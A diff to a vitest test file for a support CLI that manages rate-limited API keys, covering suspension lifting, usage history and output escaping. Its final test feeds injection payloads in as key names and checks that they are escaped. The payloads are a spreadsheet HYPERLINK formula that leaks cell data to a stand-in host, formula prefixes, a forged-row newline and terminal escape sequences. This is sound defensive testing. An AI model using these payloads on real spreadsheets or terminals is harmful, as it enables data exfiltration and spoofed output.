@@ -1,11 +1,11 @@
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
-import { SUSPENSION_RECHECK_MS } from '#shared/rate-limit/rate-limiter.ts'
 import { keysCommandOn } from '#test/support/keys-command-runner.ts'
 import {
   apiClient,
   type InProcessServer,
   startInProcessServer,
 } from '#test/support/local-server.ts'
+import { whileTheClockRuns } from '#test/support/moving-clock.ts'
 
 /**
  * Support's side of the keys CLI on the local server: a customer's key driven over its minute
@@ -42,7 +42,7 @@ const ok = async (...args: string[]) => {
 }
 
 const createKey = async (plan: string, name: string) => {
-  const { stdout } = await ok('create', '--plan', plan, '--name', name, '--json')
+  const { stdout } = await ok('create', '--plan', plan, `--name=${name}`, '--json')
   return JSON.parse(stdout) as { id: string; value: string }
 }
 
@@ -122,21 +122,32 @@ describe('a customer over its limit, as support sees and handles it', () => {
     expect(JSON.parse(moved.stdout)).toMatchObject({ from: 'free', to: 'pro', suspended: true })
     await ok('move', customer.id, '--plan', 'free')
 
-    const lifted = await ok('lift', customer.id)
-    expect(lifted.stderr).toMatch(/lifted the suspension of key/)
+    const listed = await ok('list')
+    const row = listed.stdout.split('\n').find((line) => line.startsWith(customer.id)) ?? ''
+    expect(row).toMatch(/suspended until 2026-11-03T12:1\d:\d\dZ \(429\)/)
+    const listedJson = JSON.parse((await ok('list', '--json')).stdout) as {
+      id: string
+      suspendedUntil: string | null
+    }[]
+    expect(listedJson.find((key) => key.id === customer.id)?.suspendedUntil).toBe(
+      shown.suspendedUntil,
+    )
+
+    // A request in the next minute, still suspended: the server now trusts the suspension it
+    // read for SUSPENSION_RECHECK_MS without reading the table again.
+    vi.setSystemTime(Date.UTC(2026, 10, 3, 12, 2, 5))
+    expect(statusCounts(await send(customer.value, 1))).toEqual({ key_suspended: 1 })
+    const lifted = await whileTheClockRuns(ok('lift', customer.id))
+    expect(lifted.stderr).toMatch(
+      /lifted the suspension of key \w+ .*: it is answered by its plan limits now/,
+    )
+    // In force when the command returns: the very next request is answered by the plan.
+    expect(statusCounts(await send(customer.value, 1))).toEqual({ '200': 1 })
     expect(JSON.parse((await ok('show', customer.id, '--json')).stdout)).toMatchObject({
       works: true,
       suspendedUntil: null,
     })
     expect((await ok('lift', customer.id)).stderr).toMatch(/is not suspended/)
-
-    // A warm instance rechecks a suspension it remembers within SUSPENSION_RECHECK_MS: then the
-    // key is refused only for its used-up minute, and served in the next one.
-    vi.setSystemTime(Date.now() + SUSPENSION_RECHECK_MS)
-    const [sameMinute] = await send(customer.value, 1)
-    expect(sameMinute?.json).toMatchObject({ code: 'rate_limited' })
-    vi.setSystemTime(Date.UTC(2026, 10, 3, 12, 2, 5))
-    expect(statusCounts(await send(customer.value, 1))).toEqual({ '200': 1 })
   })
 })
 
@@ -157,11 +168,14 @@ describe('usage history and the month export', () => {
     expect(
       history.map((row: { day: string; requests: number }) => [row.day, row.requests]),
     ).toEqual([
-      ['2026-11-02', 0],
+      // None from 2026-11-02: the key was made on 2026-11-03.
       ['2026-11-03', 61],
       ['2026-11-04', 0],
       ['2026-11-05', 2],
     ])
+    const before = await ok('usage', customer.id, '--from', '2026-10-01', '--to', '2026-11-02')
+    expect(before.stdout.trim()).toBe('KEY  NAME  PLAN  DAY  REQUESTS')
+    expect(before.stderr).toContain(`key ${customer.id} was made on 2026-11-03, after 2026-11-02`)
 
     const [first, second] = [customer, other].sort((a, b) => a.id.localeCompare(b.id)) as [
       typeof customer,
@@ -216,6 +230,7 @@ describe('usage history and the month export', () => {
     for (const args of [
       ['usage', '--month', '2026-13'],
       ['usage', customer.id, '--from', '2026-11-05', '--to', '2026-11-01'],
+      ['usage', customer.id, '--from', '2026-02-30'],
       ['usage'],
       ['show'],
     ]) {
@@ -224,5 +239,53 @@ describe('usage history and the month export', () => {
       expect(result.stdout).toBe('')
     }
     expect((await keys('show', 'nosuchkey')).code).toBe(1)
+  })
+})
+
+describe("a key's name as the customer typed it", () => {
+  const NAMES = {
+    formula: '=HYPERLINK("http://x.example/?q="&A1,"open")',
+    plus: '+1+2',
+    minus: '-2+3',
+    at: '@SUM(A1:A2)',
+    tab: '\tindented',
+    forged: 'fine\nzzzzzzzzzz  forged  free  yes',
+    paint: 'red\u001b[31m\u001b]0;pwned\u0007',
+  }
+
+  it('is exported to CSV so no spreadsheet runs it as a formula', async () => {
+    const made: Record<string, { id: string; value: string }> = {}
+    for (const [label, name] of Object.entries(NAMES)) {
+      made[label] = await createKey('free', name)
+      await send((made[label] as { value: string }).value, 1)
+    }
+    const month = new Date(Date.now()).toISOString().slice(0, 7)
+    const csv = (await ok('usage', '--month', month, '--csv')).stdout
+    const cells = (label: keyof typeof NAMES) =>
+      csv.split('\r\n').find((line) => line.startsWith((made[label] as { id: string }).id))
+    // OWASP: a leading ' makes the cell text; then it is quoted (RFC 4180, quotes doubled).
+    expect(cells('formula')).toContain(`,"'=HYPERLINK(""http://x.example/?q=""&A1,""open"")",`)
+    expect(cells('plus')).toContain(`,"'+1+2",`)
+    expect(cells('minus')).toContain(`,"'-2+3",`)
+    expect(cells('at')).toContain(`,"'@SUM(A1:A2)",`)
+    expect(cells('tab')).toContain(`,"'\tindented",`)
+    // The JSON keeps the name exactly.
+    const json = JSON.parse((await ok('usage', '--month', month, '--json')).stdout) as {
+      keyId: string
+      keyName: string
+    }[]
+    expect(json.find((row) => row.keyId === made.formula?.id)?.keyName).toBe(NAMES.formula)
+
+    // list and show write newlines and escape sequences escaped: no forged row, no repaint.
+    const listed = (await ok('list')).stdout
+    expect(listed).not.toContain('\u001b')
+    expect(listed).not.toMatch(/^zzzzzzzzzz/m)
+    expect(listed).toContain('fine\\nzzzzzzzzzz  forged  free  yes')
+    expect(listed).toContain('red\\x1b[31m\\x1b]0;pwned\\x07')
+    const shown = (await ok('show', made.paint?.id as string)).stdout
+    expect(shown).not.toContain('\u001b')
+    expect(shown).toContain('"red\\x1b[31m\\x1b]0;pwned\\x07"')
+    const table = (await ok('usage', made.forged?.id as string)).stdout
+    expect(table.split('\n').filter((line) => line.startsWith('zzzzzzzzzz'))).toEqual([])
   })
 })
